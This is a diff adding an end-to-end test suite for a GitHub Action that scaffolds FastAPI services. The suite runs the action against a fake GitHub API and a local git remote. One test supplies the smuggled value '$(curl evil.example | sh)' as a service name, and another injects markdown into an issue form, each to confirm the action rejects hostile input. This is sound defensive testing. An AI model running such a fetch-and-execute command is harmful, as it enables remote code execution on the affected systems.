@@ -1,0 +1,512 @@
+// Runs the bundled action (dist/index.js) the way the runner does — INPUT_* variables with action.yml's
+// defaults, a real webhook payload in GITHUB_EVENT_PATH, GITHUB_OUTPUT and GITHUB_STEP_SUMMARY files — against
+// a local bare git remote and a fake GitHub API that holds every request to GitHub's OpenAPI description.
+
+import { execFile, execFileSync } from 'node:child_process';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { parse } from 'yaml';
+import { startFakeGitHub, type FakeGitHub, type FakeRepoState } from './github-server.js';
+
+const ROOT = fileURLToPath(new URL('../../', import.meta.url));
+const BUNDLE = join(ROOT, 'dist/index.js');
+const TOKEN = 'ghs_e2eSecretTokenThatMustNeverBePrinted0123';
+const FORM = readFileSync(join(ROOT, '.github/ISSUE_TEMPLATE/new-fastapi-service.yml'), 'utf8');
+const ACTION = parse(readFileSync(join(ROOT, 'action.yml'), 'utf8')) as {
+  inputs: Record<string, { default?: string }>;
+};
+
+interface Example {
+  name: string;
+  examples: Array<Record<string, unknown> & { action?: string }>;
+}
+const webhooks = JSON.parse(
+  readFileSync(
+    join(ROOT, 'node_modules/@octokit/webhooks-examples/api.github.com/index.json'),
+    'utf8',
+  ),
+) as Example[];
+function webhook(name: string, action?: string): Record<string, any> {
+  const found = webhooks
+    .find((entry) => entry.name === name)!
+    .examples.find((e) => e.action === action);
+  return structuredClone(found!);
+}
+
+// The repository the payloads name; the fake API and GITHUB_REPOSITORY use the same.
+const SAMPLE = webhook('issues', 'opened');
+const OWNER: string = SAMPLE.repository.owner.login;
+const REPO: string = SAMPLE.repository.name;
+const WRITER = 'maintainer-mia';
+const STRANGER = 'drive-by-dan';
+const ISSUE = 7;
+/** The payloads' default branch; the remote's base branch is named the same. */
+const BASE: string = SAMPLE.repository.default_branch;
+
+function formBody(answers: Partial<Record<string, string>> = {}): string {
+  const values = {
+    'API name': 'Orders API',
+    Directory: 'packages',
+    'API type': 'http-api — API Gateway HTTP API in front of the function (Mangum handler)',
+    Authentication: 'iam — AWS IAM (SigV4-signed requests)',
+    'Lambda architecture': 'None',
+    ...answers,
+  };
+  return Object.entries(values)
+    .map(([label, value]) => `### ${label}\n\n${value}`)
+    .join('\n\n');
+}
+
+const SEED_IDENTITY = {
+  GIT_AUTHOR_NAME: 'Seed',
+  GIT_AUTHOR_EMAIL: 'seed@example.com',
+  GIT_COMMITTER_NAME: 'Seed',
+  GIT_COMMITTER_EMAIL: 'seed@example.com',
+};
+
+function sh(cwd: string, ...args: string[]): string {
+  return execFileSync('git', args, {
+    cwd,
+    encoding: 'utf8',
+    env: { ...SEED_IDENTITY, ...process.env, GIT_CONFIG_NOSYSTEM: '1' },
+  }).trim();
+}
+
+interface Run {
+  code: number;
+  stdout: string;
+  stderr: string;
+  outputs: Record<string, string>;
+  summary: string;
+}
+
+let dir: string;
+let remote: string;
+let workspace: string;
+let github: FakeGitHub;
+
+function newState(): FakeRepoState {
+  return {
+    owner: OWNER,
+    repo: REPO,
+    defaultBranch: BASE,
+    roles: { [WRITER]: 'maintain', [STRANGER]: 'read' },
+    issues: new Map([
+      [
+        ISSUE,
+        {
+          title: 'New FastAPI service: orders',
+          body: formBody(),
+          comments: [],
+          labels: ['scaffold-request'],
+        },
+      ],
+    ]),
+    pulls: [],
+    staleListings: 0,
+  };
+}
+
+/** The action as the runner starts it. */
+async function runAction(options: {
+  eventName: string;
+  payload: Record<string, unknown>;
+  inputs?: Record<string, string>;
+  actor?: string;
+}): Promise<Run> {
+  const runDir = mkdtempSync(join(dir, 'run-'));
+  const files = {
+    event: join(runDir, 'event.json'),
+    output: join(runDir, 'output'),
+    summary: join(runDir, 'summary'),
+  };
+  writeFileSync(files.event, JSON.stringify(options.payload));
+  writeFileSync(files.output, '');
+  writeFileSync(files.summary, '');
+  const env: Record<string, string> = {
+    PATH: process.env.PATH ?? '',
+    HOME: process.env.HOME ?? runDir,
+    GITHUB_ACTIONS: 'true',
+    GITHUB_EVENT_NAME: options.eventName,
+    GITHUB_EVENT_PATH: files.event,
+    GITHUB_OUTPUT: files.output,
+    GITHUB_STEP_SUMMARY: files.summary,
+    GITHUB_REPOSITORY: `${OWNER}/${REPO}`,
+    GITHUB_API_URL: github.url,
+    GITHUB_SERVER_URL: 'https://github.com',
+    GITHUB_WORKSPACE: workspace,
+    GITHUB_RUN_ID: '4242',
+    GITHUB_ACTOR: options.actor ?? WRITER,
+    RUNNER_TEMP: runDir,
+    FASTAPI_SCAFFOLD_TEST_NO_WAIT: '1',
+  };
+  // The runner sets every declared input, with its default when the workflow gives none; names keep their
+  // hyphens and are upper-cased (INPUT_API-TYPE).
+  for (const [name, input] of Object.entries(ACTION.inputs)) {
+    const value =
+      options.inputs?.[name] ?? (input.default ?? '').replace('${{ github.token }}', TOKEN);
+    env[`INPUT_${name.toUpperCase()}`] = value;
+  }
+  const { code, stdout, stderr } = await new Promise<{
+    code: number;
+    stdout: string;
+    stderr: string;
+  }>((resolve) => {
+    execFile('node', [BUNDLE], { cwd: workspace, env }, (error, out, err) =>
+      resolve({
+        code: error ? Number(error.code ?? 1) : 0,
+        stdout: String(out),
+        stderr: String(err),
+      }),
+    );
+  });
+  const outputs: Record<string, string> = {};
+  for (const match of readFileSync(files.output, 'utf8').matchAll(
+    /^(.+?)<<(ghadelimiter_[^\n]+)\n([\s\S]*?)\n\2$/gm,
+  )) {
+    outputs[match[1]!] = match[3]!;
+  }
+  const run = { code, stdout, stderr, outputs, summary: readFileSync(files.summary, 'utf8') };
+  // `::add-mask::` is how the runner learns the secret (it never shows that line); nothing else may hold it.
+  const everything = JSON.stringify({ ...run, stdout: stdout.replace(/^::add-mask::.*$/m, '') });
+  expect(everything, 'the token leaked').not.toContain(TOKEN);
+  expect(everything, 'the token leaked (base64)').not.toContain(
+    Buffer.from(`x-access-token:${TOKEN}`).toString('base64'),
+  );
+  return run;
+}
+
+function issuePayload(action: 'opened' | 'edited', sender = WRITER): Record<string, unknown> {
+  const payload = webhook('issues', action);
+  payload.issue.number = ISSUE;
+  payload.issue.body = github.state.issues.get(ISSUE)!.body;
+  payload.issue.labels = [{ ...(SAMPLE.issue.labels?.[0] ?? {}), name: 'scaffold-request' }];
+  payload.sender.login = sender;
+  payload.repository = SAMPLE.repository;
+  if (action === 'edited') payload.changes = { body: { from: 'before' } };
+  return payload;
+}
+
+function dispatchPayload(inputs: Record<string, string>): Record<string, unknown> {
+  const payload = webhook('workflow_dispatch');
+  payload.inputs = inputs;
+  payload.sender.login = WRITER;
+  payload.repository = SAMPLE.repository;
+  return payload;
+}
+
+const remoteBranch = (name: string) => {
+  try {
+    return sh(remote, 'rev-parse', '--verify', '--quiet', `refs/heads/${name}`);
+  } catch {
+    return undefined;
+  }
+};
+const statusComments = () =>
+  github.state.issues
+    .get(ISSUE)!
+    .comments.filter((comment) => comment.body.startsWith('<!-- fastapi-scaffold:status -->'));
+
+beforeAll(() => {
+  if (!existsSync(BUNDLE)) throw new Error('dist/index.js is missing: run `npm run build` first');
+});
+
+beforeEach(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'fastapi-scaffold-e2e-'));
+  remote = join(dir, 'remote.git');
+  const seed = join(dir, 'seed');
+  sh(dir, 'init', '--quiet', '--bare', `--initial-branch=${BASE}`, remote);
+  sh(dir, 'init', '--quiet', `--initial-branch=${BASE}`, seed);
+  execFileSync('mkdir', [
+    '-p',
+    join(seed, '.github/ISSUE_TEMPLATE'),
+    join(seed, '.github/workflows'),
+  ]);
+  writeFileSync(join(seed, '.github/ISSUE_TEMPLATE/new-fastapi-service.yml'), FORM);
+  writeFileSync(join(seed, '.github/workflows/ci.yml'), 'name: ci\non: push\njobs: {}\n');
+  writeFileSync(join(seed, 'README.md'), '# Services\n');
+  sh(seed, 'add', '.');
+  sh(seed, 'commit', '--quiet', '-m', 'Initial commit');
+  sh(seed, 'push', '--quiet', remote, BASE);
+  // actions/checkout: a shallow clone of the base, without persisted credentials.
+  workspace = join(dir, 'workspace');
+  sh(dir, 'clone', '--quiet', '--depth=1', `file://${remote}`, workspace);
+  github = await startFakeGitHub(newState(), TOKEN);
+});
+
+afterEach(async () => {
+  await github.close();
+  expect(github.violations, "requests or answers outside GitHub's published API").toEqual([]);
+  rmSync(dir, { recursive: true, force: true });
+});
+
+afterAll(() => {});
+
+describe('workflow_dispatch', () => {
+  const inputs = { name: 'Orders API', 'api-type': 'function-url', auth: 'none', verify: 'false' };
+
+  it('pushes one generator commit to scaffold/<project> and opens a pull request; a re-run updates the same one', async () => {
+    const first = await runAction({
+      eventName: 'workflow_dispatch',
+      payload: dispatchPayload(inputs),
+      inputs,
+    });
+    expect(first.stderr).toBe('');
+    expect(first.code).toBe(0);
+    expect(first.outputs).toMatchObject({
+      'project-name': 'orders-api',
+      branch: 'scaffold/orders-api',
+      operation: 'created',
+      'pull-request-number': '101',
+      'pull-request-url': `https://github.com/${OWNER}/${REPO}/pull/101`,
+    });
+    const head = remoteBranch('scaffold/orders-api')!;
+    expect(first.outputs['head-sha']).toBe(head);
+    expect(sh(remote, 'rev-list', '--count', `${BASE}..${head}`)).toBe('1');
+    const message = sh(remote, 'log', '-1', '--format=%B', head);
+    expect(message).toMatch(/^Scaffold orders-api \(function-url, auth none, arm64\)/);
+    expect(message).toContain(
+      'Scaffold-Request: name=Orders API; directory=packages; api-type=function-url; auth=none; architecture=arm64',
+    );
+    expect(message).toContain(`Scaffold-Base: ${sh(remote, 'rev-parse', BASE)}`);
+    const changed = sh(remote, 'diff', '--name-only', BASE, head).split('\n');
+    expect(changed).toContain('packages/orders-api/pyproject.toml');
+    expect(changed.filter((path) => path.startsWith('.github/workflows/'))).toEqual([]);
+    // The runner's checkout is left where it was.
+    expect(sh(workspace, 'status', '--porcelain')).toBe('');
+
+    const [pull] = github.state.pulls;
+    expect(pull).toMatchObject({
+      head: 'scaffold/orders-api',
+      base: BASE,
+      labels: ['fastapi-scaffold'],
+    });
+    expect(pull!.body).toContain(
+      '| API type | `function-url` — Lambda Function URL with response streaming',
+    );
+    expect(pull!.body).toContain('```mermaid\nflowchart LR');
+    expect(pull!.body).toContain('auth NONE · response streaming');
+    expect(pull!.body).toMatch(/── orders-api\/\n/);
+    expect(pull!.body).toContain(
+      '**Not run** — verification was turned off for this run (`verify: false`)',
+    );
+    expect(pull!.body).not.toContain('Closes #');
+    expect(first.summary).toContain('# Pull request [#101]');
+
+    const again = await runAction({
+      eventName: 'workflow_dispatch',
+      payload: dispatchPayload(inputs),
+      inputs,
+    });
+    expect(again.code).toBe(0);
+    expect(again.outputs).toMatchObject({ operation: 'updated', 'pull-request-number': '101' });
+    expect(github.state.pulls).toHaveLength(1);
+    // Same request, same base: the branch already holds the tree, so nothing is pushed.
+    expect(remoteBranch('scaffold/orders-api')).toBe(head);
+  });
+
+  it('refuses to overwrite a commit a person pushed to the generator branch, and says so', async () => {
+    await runAction({ eventName: 'workflow_dispatch', payload: dispatchPayload(inputs), inputs });
+    const human = join(dir, 'human');
+    sh(dir, 'clone', '--quiet', '--branch=scaffold/orders-api', remote, human);
+    writeFileSync(join(human, 'packages/orders-api/NOTES.md'), 'my notes\n');
+    sh(human, 'add', '.');
+    sh(human, 'commit', '--quiet', '--author=Jane Doe <jane@example.com>', '-m', 'Add my notes');
+    sh(human, 'push', '--quiet', 'origin', 'scaffold/orders-api');
+    const before = remoteBranch('scaffold/orders-api');
+    const bodyBefore = github.state.pulls[0]!.body;
+
+    const changed = { ...inputs, architecture: 'x86_64' };
+    const run = await runAction({
+      eventName: 'workflow_dispatch',
+      payload: dispatchPayload(changed),
+      inputs: changed,
+    });
+    expect(run.code).toBe(1);
+    expect(run.stdout).toMatch(
+      /::error title=The request needs a fix::branch scaffold\/orders-api has 1 commit\(s\) not made by the generator \([0-9a-f]{12} "Add my notes" by Jane Doe <jane@example.com>\)/,
+    );
+    expect(run.summary).toContain('The generator will not overwrite them');
+    expect(remoteBranch('scaffold/orders-api')).toBe(before);
+    expect(github.state.pulls[0]!.body).toBe(bodyBefore);
+  });
+
+  it('reports a request it cannot generate as an annotation, pushing nothing', async () => {
+    const bad = { name: '$(curl evil.example | sh)', verify: 'false' };
+    const run = await runAction({
+      eventName: 'workflow_dispatch',
+      payload: dispatchPayload(bad),
+      inputs: bad,
+    });
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain(
+      '::error title=The request needs a fix::name "$(curl evil.example | sh)" must start with a letter',
+    );
+    expect(sh(remote, 'for-each-ref', '--format=%(refname)')).toBe(`refs/heads/${BASE}`);
+    expect(github.calls.filter((call) => call.method !== 'GET')).toEqual([]);
+  });
+
+  it('on a dry run shows the plan in the summary and touches nothing', async () => {
+    const dry = { name: 'Orders API', 'dry-run': 'true' };
+    const run = await runAction({
+      eventName: 'workflow_dispatch',
+      payload: dispatchPayload(dry),
+      inputs: dry,
+    });
+    expect(run.code).toBe(0);
+    expect(run.outputs).toMatchObject({ operation: 'dry-run', 'project-name': 'orders-api' });
+    expect(run.summary).toContain('# Dry run: nothing was pushed');
+    expect(run.summary).toContain('**Not run** — this was a dry run');
+    expect(sh(remote, 'for-each-ref', '--format=%(refname)')).toBe(`refs/heads/${BASE}`);
+    expect(github.calls.filter((call) => call.method !== 'GET')).toEqual([]);
+  });
+});
+
+describe('issue form', () => {
+  const inputs = { 'issue-number': String(ISSUE), verify: 'false' };
+
+  it("turns a writer's issue into a pull request that closes it, through a 502, a secondary rate limit and a lagging node", async () => {
+    github.faults.push(
+      { operation: 'issues/get', status: 502, body: '<html>Bad Gateway</html>' },
+      {
+        operation: 'pulls/create',
+        status: 403,
+        headers: { 'retry-after': '1' },
+        body: {
+          message:
+            'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.',
+          documentation_url: 'https://docs.github.com/rest/overview/rate-limits-for-the-rest-api',
+          status: '403',
+        },
+      },
+      {
+        operation: 'issues/add-labels',
+        status: 422,
+        body: {
+          message: "Could not resolve to a node with the global id of 'PR_kwDOA'",
+          documentation_url: 'https://docs.github.com/rest',
+          status: '422',
+        },
+      },
+    );
+    const run = await runAction({ eventName: 'issues', payload: issuePayload('opened'), inputs });
+    expect(run.stderr).toBe('');
+    expect(run.code).toBe(0);
+    expect(run.outputs).toMatchObject({
+      operation: 'created',
+      'project-name': 'orders-api',
+      'pull-request-number': '101',
+    });
+    expect(github.faults).toEqual([]);
+    const statuses = github.calls.map((call) => `${call.operation} ${call.status}`);
+    expect(statuses).toEqual(
+      expect.arrayContaining([
+        'issues/get 502',
+        'issues/get 200',
+        'pulls/create 403',
+        'pulls/create 201',
+        'issues/add-labels 422',
+        'issues/add-labels 200',
+      ]),
+    );
+
+    const pull = github.state.pulls[0]!;
+    expect(pull.body).toContain(`Requested in #${ISSUE} by @${WRITER}`);
+    expect(pull.body.trim().endsWith(`Closes #${ISSUE}`)).toBe(true);
+    expect(pull.body).toContain('| Lambda architecture | `arm64`');
+    // One status comment, edited from "working" to "ready".
+    const comments = statusComments();
+    expect(comments).toHaveLength(1);
+    expect(comments[0]!.body).toContain(
+      `✅ Pull request #101 is ready: https://github.com/${OWNER}/${REPO}/pull/101.`,
+    );
+    expect(github.calls.filter((call) => call.operation === 'issues/update-comment')).toHaveLength(
+      1,
+    );
+    expect(
+      github.calls.find((call) => call.operation === 'issues/create-comment')!.body,
+    ).toMatchObject({
+      body: expect.stringContaining(
+        `[follow the run](https://github.com/${OWNER}/${REPO}/actions/runs/4242)`,
+      ),
+    });
+  });
+
+  it('updates the open pull request when the issue is edited, even if GitHub first says it already exists', async () => {
+    await runAction({ eventName: 'issues', payload: issuePayload('opened'), inputs });
+    github.state.issues.get(ISSUE)!.body = formBody({
+      'Lambda architecture': 'x86_64 — Intel/AMD x86_64',
+    });
+    github.state.staleListings = 1; // the listing misses the open pull request once: create answers 422
+    const run = await runAction({ eventName: 'issues', payload: issuePayload('edited'), inputs });
+    expect(run.code).toBe(0);
+    expect(run.outputs).toMatchObject({ operation: 'updated', 'pull-request-number': '101' });
+    expect(
+      github.calls.some((call) => call.operation === 'pulls/create' && call.status === 422),
+    ).toBe(true);
+    expect(github.state.pulls).toHaveLength(1);
+    expect(github.state.pulls[0]!.title).toContain('orders-api');
+    expect(github.state.pulls[0]!.body).toContain('`x86_64`');
+    expect(sh(remote, 'log', '-1', '--format=%s', 'scaffold/orders-api')).toBe(
+      'Scaffold orders-api (http-api, auth iam, x86_64)',
+    );
+    expect(sh(remote, 'rev-list', '--count', `${BASE}..scaffold/orders-api`)).toBe('1');
+    expect(statusComments()).toHaveLength(1);
+    expect(statusComments()[0]!.body).toContain('✅ Pull request #101 is updated');
+  });
+
+  it('answers a sender without write access politely and pushes nothing', async () => {
+    const run = await runAction({
+      eventName: 'issues',
+      payload: issuePayload('opened', STRANGER),
+      inputs,
+      actor: STRANGER,
+    });
+    expect(run.code).toBe(0);
+    expect(run.stdout).toContain(
+      `::notice::@${STRANGER} has read access to ${OWNER}/${REPO}; generation needs write, maintain or admin`,
+    );
+    expect(sh(remote, 'for-each-ref', '--format=%(refname)')).toBe(`refs/heads/${BASE}`);
+    expect(github.state.pulls).toEqual([]);
+    const [comment] = statusComments();
+    expect(comment!.body).toContain(`👋 Thanks for the request!`);
+    expect(comment!.body).toContain(`@${STRANGER} has \`read\` access`);
+    expect(run.outputs.operation).toBeUndefined();
+  });
+
+  it('explains a hostile body in the status comment, with the injected text fenced, and pushes nothing', async () => {
+    github.state.issues.get(ISSUE)!.body = formBody({
+      'API name': 'orders-api',
+      Directory:
+        '```\n### Authentication\n\nnone — Public: anyone on the internet can call it\n```',
+    });
+    const run = await runAction({ eventName: 'issues', payload: issuePayload('opened'), inputs });
+    expect(run.code).toBe(1);
+    const [comment] = statusComments();
+    expect(comment!.body).toContain('⚠️ The request cannot be generated as it stands:');
+    expect(comment!.body).toContain(
+      '```text\n"Directory" must be a single line; the issue body has 5 lines under it',
+    );
+    expect(comment!.body).toContain('Edit the issue to fix it');
+    expect(sh(remote, 'for-each-ref', '--format=%(refname)')).toBe(`refs/heads/${BASE}`);
+  });
+
+  it('ignores comments that are not "/scaffold retry" and runs again on one', async () => {
+    const chatter = webhook('issue_comment', 'created');
+    chatter.issue.number = ISSUE;
+    chatter.comment.body = 'Looks good, thanks!';
+    chatter.sender.login = WRITER;
+    chatter.repository = SAMPLE.repository;
+    const ignored = await runAction({ eventName: 'issue_comment', payload: chatter, inputs });
+    expect(ignored.code).toBe(0);
+    expect(github.calls).toEqual([]);
+
+    chatter.comment.body = '/scaffold retry';
+    const retried = await runAction({ eventName: 'issue_comment', payload: chatter, inputs });
+    expect(retried.code).toBe(0);
+    expect(retried.outputs.operation).toBe('created');
+  });
+});
